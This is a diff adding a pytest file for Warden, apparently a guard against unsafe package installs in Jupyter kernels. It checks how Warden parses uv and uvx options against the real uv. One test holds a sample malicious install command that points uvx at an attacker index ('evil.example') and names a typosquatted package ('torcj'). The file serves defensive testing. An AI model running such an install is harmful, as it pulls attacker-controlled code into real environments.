@@ -1,0 +1,89 @@
+"""Red team 15, the general forms (tables17): uv's options read per command, deny by default
+(R15-14), a command file on a descriptor (R15-15), git settings as a closed model (R15-9,
+R15-11) and tmux formats (`#(CMD)`).
+
+Malicious cases run for real prove themselves: they install from the local index in a kernel
+without Warden and are refused with it.
+"""
+
+import json
+import subprocess
+import tempfile
+from pathlib import Path
+
+import pytest
+from real_uv import real_uv
+
+from jupyterlab_warden.kernel.guard.installs import arguments
+from jupyterlab_warden.kernel.guard.installs.gate import read_requests
+
+REPO = Path(__file__).resolve().parents[2]
+UV_TABLE = json.loads((REPO / "schema" / "uv-cli.json").read_text(encoding="utf-8"))
+
+
+def _uv_answer(uv: str, command: list, option: str, home: str):
+    """What the real uv makes of ``option`` in ``command``: None (not its option), "valued",
+    "flag" (clap's own errors, offline, no configuration)."""
+    env = {"PATH": "/usr/bin:/bin", "HOME": home, "UV_NO_CONFIG": "1", "UV_OFFLINE": "1"}
+    err = subprocess.run(
+        [uv, *command, option], capture_output=True, text=True, env=env, cwd=home, timeout=60
+    ).stderr
+    if "unexpected argument" in err:
+        return None
+    return "valued" if "a value is required" in err else "flag"
+
+
+@pytest.mark.parametrize("command", ["uv tool run", "uv pip install"])
+def test_each_uv_commands_own_table_is_what_the_real_uv_takes(command):
+    """R15-14 general form: every option name any uv command has, asked of the real uv in
+    ``command``: Warden's table for that command says the same (valued, flag, or not one of
+    its options, which Warden refuses). The union table read `uvx --python-fetch V` as a flag
+    and `uv pip install --no-binary V` likewise."""
+    uv = real_uv()
+    own = UV_TABLE["by_command"][command]
+    names = sorted(set(UV_TABLE["valued"]) | set(UV_TABLE["flags"]))
+    with tempfile.TemporaryDirectory() as home:
+        wrong = {}
+        for name in names:
+            answer = _uv_answer(uv, command.split()[1:], name, home)
+            table = "valued" if name in own["valued"] else "flag" if name in own["flags"] else None
+            if answer != table:
+                wrong[name] = (answer, table)
+    assert wrong == {}
+
+
+def test_uvx_reads_its_own_options_deny_by_default():
+    """An option of another uv command (uv would refuse it) is no option of uvx: refused,
+    not read as a flag whose value would be the tool."""
+    (request,) = read_requests(["uvx", "--max-recursion-depth", "3", "black"], None, {}, "/")
+    assert any("--max-recursion-depth" in p for p in request.problems)
+    argv = ["uvx", "--python-fetch", "never", "--index-url", "https://evil.example/simple"]
+    (request,) = read_requests(argv + ["--from", "torcj", "black"], None, {}, "/")
+    assert "torcj" in [r.name for r in request.requirements] and not request.problems
+
+
+@pytest.mark.parametrize(
+    "tool", ["python", "python3", "python3.12", "python@3.12", "--from black python"]
+)
+def test_uvx_python_is_the_interpreter_not_a_package(tool):
+    """`uvx python ...` runs uv's Python interpreter (no package named python: it was refused
+    as an imitation of ipython); its --with packages are still read."""
+    assert arguments.uv_python_tool(tool.split()[-1])
+    argv = ["uvx", "--with", "numpy", *tool.split(), "-c", "print(1)"]
+    (request,) = read_requests(argv, None, {}, "/")
+    names = [r.name for r in request.requirements]
+    assert "python" not in names and "numpy" in names
+    assert not arguments.uv_python_tool("pythonw") and not arguments.uv_python_tool("ipython")
+
+
+def test_uvx_python_runs_an_interpreter_with_the_real_uv(tmp_path):
+    """What the exemption rests on: uv 0.13.9 runs `uvx python` offline with an empty cache
+    (so it resolved no package), while `uvx pythonw` resolves a package."""
+    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "UV_NO_CONFIG": "1", "UV_OFFLINE": "1"}
+    uvx = [real_uv(), "tool", "run"]
+    ran = subprocess.run(
+        uvx + ["python", "-c", "print('interp')"], capture_output=True, text=True, env=env
+    )
+    assert ran.returncode == 0 and ran.stdout.strip() == "interp", ran.stderr
+    package = subprocess.run(uvx + ["pythonw"], capture_output=True, text=True, env=env)
+    assert package.returncode != 0 and "pythonw was not found" in package.stderr
